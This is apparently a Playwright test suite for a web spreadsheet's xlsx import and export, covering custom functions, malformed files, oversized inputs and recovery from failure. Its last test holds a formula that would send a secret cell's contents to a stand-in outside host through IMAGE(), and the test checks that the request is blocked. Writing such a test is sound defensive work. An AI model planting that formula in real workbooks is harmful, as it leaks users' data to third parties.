import { readFileSync } from "node:fs";
import path from "node:path";
import type { Page } from "playwright-core";
import type { WorkbookContent } from "../../src/workbench/content";
import { readXlsx } from "../../src/workbench/xlsx/readXlsx";
import { writeXlsx } from "../../src/workbench/xlsx/writeXlsx";
import { packXlsx } from "../workbench/xlsx/packXlsx";
import { openWorkbench } from "../support/openWorkbench";
import { spreadsheet } from "../support/spreadsheet";
import { openFile, saveFile } from "../support/workbookFiles";

const customFunctions = { namespace: "KPI", names: ["GRADE", "TIERCOMMISSION"] };

function sheetOf(rows: number, columns: number): WorkbookContent {
  const cells = Array.from({ length: rows * columns }, (_, i) => ({
    row: Math.floor(i / columns),
    column: i % columns,
    value: i,
  }));
  const sheet = {
    name: "Large",
    hidden: false,
    protected: false,
    cells,
    columnWidths: {},
    rowHeights: {},
    merges: [],
    tables: [],
    frozen: { rows: 0, columns: 0 },
    showGridlines: true,
  };
  return { sheets: [sheet], names: [] };
}

let page: Page;
let cells: ReturnType<typeof spreadsheet>;

beforeAll(async () => {
  ({ page } = await openWorkbench({ language: "en-US" }));
  cells = spreadsheet(page);
});

test("a saved workbook holds values, tables, names, and custom functions as Excel stores them", async () => {
  await cells.addSheet("Pay");
  await cells.setValues("Pay!A1:B2", [
    [0, 0.01],
    [40_000, 0.02],
  ]);
  await cells.setFormulas("Pay!D1", [["=KPI.TIERCOMMISSION(50000,A1:B2)"]]);
  await cells.settled();
  const saved = await saveFile(page);
  const { sheets } = await readXlsx(saved, { customFunctions });
  const pay = sheets.find(({ name }) => name === "Pay");
  // 400 + 10,000 × 2 %
  expect(pay?.cells.find(({ row, column }) => row === 0 && column === 3)).toMatchObject({
    formula: "=KPI.TIERCOMMISSION(50000,A1:B2)",
    value: 600,
  });
  expect(sheets.flatMap(({ tables }) => tables.map(({ name }) => name))).toEqual([
    "花名册",
    "数据7月",
    "数据8月",
    "数据9月",
  ]);

  expect(await openFile(page, saved)).toBeNull();
  await cells.settled();
  expect(await cells.getValues("Pay!D1")).toEqual([[600]]);
  expect(await cells.getFormulas("Pay!D1")).toEqual([["=KPI.TIERCOMMISSION(50000,A1:B2)"]]);
});

test.each([
  ["a broken file", readFileSync(path.resolve("package.json"))],
  ["half a file", readFileSync(path.resolve("assets/samples/customer-service.xlsx")).subarray(0, 5_000)],
])("%s is refused with a message, and the open workbook stays", async (_, bytes) => {
  const before = await cells.sheets();
  expect(await openFile(page, bytes)).toMatch(/\w+ .*\w+/);
  expect(await cells.sheets()).toEqual(before);
});

test("a sheet of 5,000 rows and 10 columns opens, exact to the last cell", async () => {
  expect(await openFile(page, await writeXlsx(sheetOf(5_000, 10), { customFunctions }))).toBeNull();
  await cells.settled();
  expect(await cells.getValues("Large!J5000")).toEqual([[49_999]]);
});

test("numbers stay exact, errors and spilled cells are read", async () => {
  await cells.addSheet("Exact");
  await cells.setValues("Exact!A1:A3", [[0.1], [0.2], [1 / 3]]);
  await cells.setFormulas("Exact!B1", [["=KPI.RANK(A1:A3)"]]);
  await cells.setFormulas("Exact!C1:C2", [["=1/0"], ['=KPI.GRADE("x",{0,"B";90,"A"})']]);
  await cells.settled();
  expect(await cells.getValues("Exact!A1:C3")).toEqual([
    [0.1, 3, "#DIV/0!"],
    [0.2, 2, "#VALUE!"],
    [1 / 3, 1, ""],
  ]);
  expect(await cells.message("Exact!C2")).toContain("expected a number, found “x”");
});

const ONE_ROW = '<sheetData><row r="1"><c r="A1"><v>1</v></c><c r="B1"><f>A1+1</f></c></row></sheetData>';

function merging(area: string): Uint8Array {
  return packXlsx({ sheet: `${ONE_ROW}<mergeCells><mergeCell ref="${area}"/></mergeCells>` });
}

test.each(["A1:AH1", "A1:XFD1", "A2:C900", "A1:XFD1048576"])("a file that merges %s opens", async (area) => {
  expect(await openFile(page, merging(area))).toBeNull();
  await cells.settled();
  expect(await cells.getValues("Sheet1!A1")).toEqual([[1]]);
});

// No file is known that the grid fails on; here the page itself fails, when the table gets its id.
test("a failure in the middle of opening leaves the workbook as it was, and it computes on", async () => {
  await cells.addSheet("Unsaved");
  await cells.setValues("Unsaved!A1:A2", [[1], [2]]);
  await cells.setFormulas("Unsaved!B1", [["=SUM(A1:A2)"]]);
  await cells.settled();
  const before = await cells.sheets();
  const table =
    '<table id="1" name="T" displayName="T" ref="A1:B3"><tableColumns><tableColumn id="1" name="a"/><tableColumn id="2" name="b"/></tableColumns></table>';
  await page.evaluate(() => {
    crypto.getRandomValues = () => {
      throw new Error("no more random numbers");
    };
  });
  const problem = await openFile(page, packXlsx({ sheet: ONE_ROW.replace(/<.?sheetData>/g, ""), tables: [table] }));
  await page.evaluate(() => Reflect.deleteProperty(crypto, "getRandomValues"));
  expect(problem).toBe("no more random numbers");
  expect(await cells.sheets()).toEqual(before);
  await cells.setValues("Unsaved!A1", [[40]]);
  await cells.settled();
  expect(await cells.getValues("Unsaved!A1:B2")).toEqual([
    [40, 42],
    [2, ""],
  ]);
});

test("a sheet that is a web page is refused", async () => {
  const html = "<html><body><table><tr><td>1</td></tr></table></body></html>";
  const problem = await openFile(page, packXlsx({ files: { "xl/worksheets/sheet1.xml": html } }));
  expect(problem).toContain("“html” where a worksheet belongs");
});

// Excel allows 64 levels; one formula beyond all limits must not keep the others from being computed.
test.each([
  ["functions", `${"ABS(".repeat(5_000)}A1${")".repeat(5_000)}`],
  ["brackets", `${"(1+".repeat(5_000)}A1${")".repeat(5_000)}`],
])("5,000 nested %s are #VALUE!, and the rest is computed", async (_, formula) => {
  const sheet = `<row r="1"><c r="A1"><v>1</v></c><c r="B1"><f>${formula}</f></c><c r="C1"><f>A1+1</f></c></row>`;
  expect(await openFile(page, packXlsx({ sheet }))).toBeNull();
  await cells.settled();
  expect(await cells.getValues("Sheet1!A1:C1")).toEqual([[1, "#VALUE!", 2]]);
});

test("10,000 defined names open in seconds, and compute", async () => {
  const names = Array.from({ length: 10_000 }, (_, i) => `<definedName name="n_${i}">Sheet1!$A$${i + 1}</definedName>`);
  const sheet = '<row r="1"><c r="A1"><v>5</v></c><c r="B1"><f>n_0*2</f></c></row>';
  const bytes = packXlsx({ sheet, workbook: { names: `<definedNames>${names.join("")}</definedNames>` } });
  const start = Date.now();
  expect(await openFile(page, bytes)).toBeNull();
  await cells.settled();
  expect(Date.now() - start).toBeLessThan(15_000);
  expect(await cells.getValues("Sheet1!A1:B1")).toEqual([[5, 10]]);
});

test("no formula sends the content of a cell out", async () => {
  const reached: string[] = [];
  await cells.addSheet("Secret");
  await cells.setValues("Secret!A1", [["secret"]]);
  await page.route("http://elsewhere.example/**", (route) => {
    reached.push(route.request().url());
    return route.abort();
  });
  await cells.setFormulas("Secret!B1", [['=IMAGE("http://elsewhere.example/"&A1)']]);
  await cells.settled();
  await page.waitForTimeout(1_000);
  expect(reached).toEqual([]);
});
